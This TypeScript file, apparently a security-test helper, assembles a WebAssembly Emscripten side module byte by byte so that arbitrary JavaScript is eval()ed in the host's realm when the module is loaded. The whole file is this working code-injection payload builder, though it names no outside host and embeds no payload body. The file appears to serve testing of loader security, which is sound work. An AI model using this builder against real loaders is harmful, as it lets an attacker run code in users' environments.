/**
 * A hostile Emscripten side module, assembled byte by byte: a `dylink.0` section, the imports a
 * side module takes (env.memory, env.__memory_base), and an exported `__em_js__…` global that
 * points at an EM_JS string. Emscripten's dynamic loader eval()s such strings in the host's JS
 * realm when the module is loaded (`(args) => BODY;`), so BODY runs as host JavaScript on dlopen,
 * before any symbol is looked up.
 */

function leb(n: number): number[] {
  const out: number[] = [];
  do {
    let b = n & 0x7f;
    n >>>= 7;
    if (n !== 0) b |= 0x80;
    out.push(b);
  } while (n !== 0);
  return out;
}

function str(s: string): number[] {
  const b = [...Buffer.from(s, "utf8")];
  return [...leb(b.length), ...b];
}

function section(id: number, payload: number[]): number[] {
  return [id, ...leb(payload.length), ...payload];
}

/** The side module's bytes; loading it runs `js` (a JS statement) in the loader's realm. */
export function hostileSideModule(js: string): Buffer {
  const emJs = Buffer.from(`()<::>0; ${js}\0`, "utf8");
  const memSize = emJs.length + 16;
  const memInfo = [...leb(memSize), ...leb(0), ...leb(0), ...leb(0)];
  const dylink = [...str("dylink.0"), 1, ...leb(memInfo.length), ...memInfo];
  const imports = [
    2,
    ...str("env"), ...str("memory"), 0x02, 0x00, 0x00,
    ...str("env"), ...str("__memory_base"), 0x03, 0x7f, 0x00,
  ];
  // Global 1 (0 is the imported __memory_base): offset 0 of the module's data, relocated by the
  // loader (relocateExports adds memoryBase).
  const globals = [1, 0x7f, 0x00, 0x41, 0x00, 0x0b];
  const exports = [1, ...str("__em_js__zerocell_probe"), 0x03, 1];
  const data = [1, 0x00, 0x23, 0x00, 0x0b, ...leb(emJs.length), ...emJs];
  return Buffer.from([
    0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00,
    ...section(0, dylink),
    ...section(2, imports),
    ...section(6, globals),
    ...section(7, exports),
    ...section(11, data),
  ]);
}
